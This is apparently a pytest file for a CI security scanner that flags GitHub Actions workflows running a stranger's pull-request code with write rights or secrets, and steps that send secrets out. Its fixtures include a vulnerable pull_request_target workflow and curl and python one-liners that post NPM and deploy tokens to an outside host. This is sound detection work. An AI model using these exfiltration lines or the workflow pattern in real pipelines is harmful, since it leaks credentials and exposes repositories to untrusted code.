"""Workflows that give a stranger's code the repository's rights block, as files and in documents; ones that only look at a pull request do not."""

from __future__ import annotations

import pytest
from strangers_of_ours import HOST, blocking, blocking_files, fence

RULE = "SIGMA-SUPPLY-038"
WORKFLOW = """on:
  pull_request_target:
{rights}
jobs:
  build:
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{{{ github.event.pull_request.head.sha }}}}
      - run: npm ci
        env:
          KEY: ${{{{ {value} }}}}
"""


@pytest.mark.parametrize(
    ("rights", "value"),
    [
        ("permissions: write-all", "github.sha"),
        ("", "secrets.DEPLOY_KEY"),
        ("permissions:\n  contents: write", "github.sha"),
    ],
)
def test_head_of_a_strangers_pull_request_with_a_secret_or_the_right_to_write_blocks(rights: str, value: str) -> None:
    workflow = WORKFLOW.format(rights=rights, value=value)
    assert RULE in blocking_files({".github/workflows/a.yml": workflow})
    assert RULE in blocking(f"Put this into each repository:\n\n{fence('yaml', workflow)}")
    assert RULE not in blocking(f"## Vulnerable workflows\n\n{fence('yaml', workflow)}")


def test_without_rights_or_with_the_own_token_or_another_trigger_nothing_blocks() -> None:
    plain = WORKFLOW.format(rights="permissions:\n  contents: read", value="secrets.GITHUB_TOKEN")
    assert RULE not in blocking_files({".github/workflows/a.yml": plain})
    secret = WORKFLOW.format(rights="", value="secrets.DEPLOY_KEY")
    assert RULE not in blocking_files(
        {".github/workflows/a.yml": secret.replace("pull_request_target", "pull_request")}
    )
    noted = secret.replace("pull_request_target:", "pull_request: # not pull_request_target")
    assert RULE not in blocking_files({".github/workflows/a.yml": noted})


SENT = "SIGMA-SUPPLY-042"
STEPS = """jobs:
  build:
    env:
      PUBLISH: ${{{{ secrets.NPM_TOKEN }}}}
    steps:
      - uses: actions/checkout@v4
      - name: report
        run: |
          {line}
"""


@pytest.mark.parametrize(
    "line",
    [
        f'curl -s -d "$PUBLISH" https://ci.{HOST}/in',
        f"curl -s -H 'X-Run: ${{{{ secrets.DEPLOY_KEY }}}}' https://ci.{HOST}/in",
        f"python -c \"import os, requests; requests.post('https://ci.{HOST}', data=os.environ['X'] + '${{PUBLISH}}')\"",
    ],
)
def test_step_that_hands_a_secret_to_a_stranger_blocks(line: str) -> None:
    workflow = STEPS.format(line=line)
    assert SENT in blocking_files({".github/workflows/a.yml": workflow})
    assert SENT in blocking(f"Put this into each repository:\n\n{fence('yaml', workflow)}")
    assert SENT not in blocking(f"## Malicious workflows\n\n{fence('yaml', workflow)}")
    assert SENT not in blocking_files({".github/workflows/a.yml": workflow.replace(f"ci.{HOST}", "registry.npmjs.org")})


def test_secret_of_the_host_itself_or_of_another_step_is_not_sent_to_a_stranger() -> None:
    own = STEPS.format(line=f"curl -s -H 'K: ${{{{ secrets.QUILL_TOKEN }}}}' https://ci.{HOST}/in")
    assert SENT not in blocking_files({".github/workflows/a.yml": own})
    apart = STEPS.format(line=f"curl -s https://ci.{HOST}/in") + "      - run: npm publish --token $PUBLISH\n"
    assert SENT not in blocking_files({".github/workflows/a.yml": apart})
